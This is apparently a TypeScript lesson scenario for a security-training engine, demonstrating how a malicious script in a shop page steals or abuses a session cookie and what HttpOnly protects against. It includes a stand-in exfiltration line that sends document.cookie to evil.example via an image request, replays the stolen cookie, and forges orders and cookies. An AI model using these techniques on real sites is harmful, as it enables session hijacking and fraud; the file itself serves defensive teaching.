import type { Actor } from './engine/cast.ts';
import { sidOf } from './engine/identity.ts';
import { scenario } from './engine/scenario.ts';

/** What the script wrote behind the question mark, as the attacker's server got it. */
const loot = (browser: Actor) => decodeURIComponent(browser.last.text.split('?')[1] ?? '');

export default scenario({
  slug: 'httponly-vs-xss',
  chapter: 'cookie',
  title: 'What a script can steal',
  question: 'If a foreign script runs in my page, does HttpOnly save me?',
  weakness: 'cookie-readable-by-scripts',
  actors: { alice: 'victim', mallory: 'attacker' },
  // Answers with what it was asked for, so that one can see what arrived there.
  sites: { 'https://evil.example': ({ path }) => ({ body: path }) },
  references: [
    'ASVS V3.3.4',
    'WSTG-SESS-02',
    'WSTG-CLNT-12',
    'RFC6265bis 5.7',
    'RFC6265bis 5.8.2',
    'NIST 63B-4 5.1.1',
    'CWE-1004',
    'CWE-79',
    'CWE-522',
    'CAPEC-31',
    'CAPEC-63',
  ],
  steps: [
    {
      title: 'Alice logs in',
      purpose: 'Get a session cookie',
      narration:
        'Among the shop’s scripts is one of Mallory’s: an unescaped comment or a hacked supplier of statistics is enough. To the browser it is a script of the shop’s page like any other.',
      act: ({ alice }) => alice.post('/auth/login', { email: 'alice@shop.example', password: 'rabbit-hole-7' }),
      ask: {
        question: 'Is the session cookie marked HttpOnly?',
        answer: ({ alice }) => (alice.cookie()?.httpOnly ? 'yes' : 'no'),
        vulnerable: 'no',
        protected: 'yes',
      },
    },
    {
      title: 'The script sends document.cookie to evil.example',
      purpose: 'Carry the cookie away',
      narration:
        'Reading document.cookie is one line, and an image whose address contains what was read carries it to any server. HttpOnly means: the browser sends this cookie, and shows it to no script.',
      act: ({ alice }) => alice.image(`https://evil.example/loot?${encodeURIComponent(alice.readCookies())}`),
      ask: {
        question: 'Did the session id arrive at evil.example?',
        answer: ({ alice }) => (loot(alice).includes(sidOf(alice.cookie()) ?? '-') ? 'yes' : 'no'),
        vulnerable: 'yes',
        protected: 'no',
      },
    },
    {
      title: 'Mallory sends what she got',
      purpose: 'Use the loot elsewhere',
      narration:
        'She sends it from her own computer, where it goes on working when Alice has closed the page. Nothing in a cookie says which browser it was meant for.',
      act: ({ mallory, alice }) => mallory.get('/me', { cookie: loot(alice) }),
      ask: {
        question: 'Who does the shop think she is?',
        answer: ({ mallory }) => mallory.last.json?.email ?? 'nobody',
        vulnerable: 'alice@shop.example',
        protected: 'nobody',
      },
    },
    {
      title: 'The script looks for the id in the shop’s answers',
      purpose: 'Try the way around HttpOnly',
      narration:
        'A script may fetch whatever the page may fetch, and read it. So no answer may repeat the session id: the list of Alice’s devices names them by a hash of the id.',
      act: ({ alice }) => alice.get('/sessions'),
      ask: {
        question: 'Is the session id in the answer?',
        answer: ({ alice }) => (alice.last.text.includes(sidOf(alice.cookie()) ?? '-') ? 'yes' : 'no'),
        vulnerable: 'no',
        protected: 'no',
      },
    },
    {
      title: 'The script orders a hat in Alice’s name',
      purpose: 'Use the cookie without seeing it',
      narration:
        'It asks GET /me for the token that the shop’s own pages send, and posts like one of them. The browser adds the cookie as it does for every request of this page. This is what HttpOnly does not stop: use, as long as the page is open.',
      act: async ({ alice }) => {
        await alice.get('/me');
        await alice.post('/basket', { item: 'hat' });
        await alice.post('/orders');
      },
      ask: {
        question: 'What does the shop answer to the order?',
        answer: ({ alice }) => alice.last.status,
        vulnerable: 201,
        protected: 201,
      },
    },
    {
      title: 'The script writes a session cookie of its own',
      purpose: 'Replace what it cannot read',
      narration:
        'A script that can write the session cookie can put Alice into a session of its choice, or out of hers. A browser lets no script write over a cookie that is HttpOnly.',
      act: ({ alice }) => alice.writeCookie('__Host-sid=written-by-a-script; Path=/; Secure'),
      ask: {
        question: 'Has the browser taken it?',
        answer: ({ alice }) => (alice.cookie()?.value === 'written-by-a-script' ? 'yes' : 'no'),
        vulnerable: 'yes',
        protected: 'no',
      },
    },
    {
      title: 'Alice opens her account page',
      purpose: 'See what is left to her',
      narration:
        'The browser sends what is in the jar now. A value that the shop did not sign counts as no cookie, and then she has to log in again.',
      act: ({ alice }) => alice.get('/me'),
      ask: {
        question: 'What does the shop answer?',
        answer: ({ alice }) => alice.last.status,
        vulnerable: 401,
        protected: 200,
      },
    },
  ],
  lesson:
    'HttpOnly stops the theft of the session, not its use: a script in the page still acts as the user while the page is open.',
  fix: `cookie: { httpOnly: true, secure: true, sameSite: 'lax', path: '/' }`,
  notTheFix: [
    'Keeping the session id in localStorage: every script of the page reads it, and there is no HttpOnly for it.',
    'Encrypting the cookie’s value: a thief does not have to understand it, only to send it.',
    'A CSRF token against the script: it runs in the page and reads the token like the page’s own scripts. Against use help only escaping, a content security policy, and asking for the password before what is dangerous.',
  ],
});
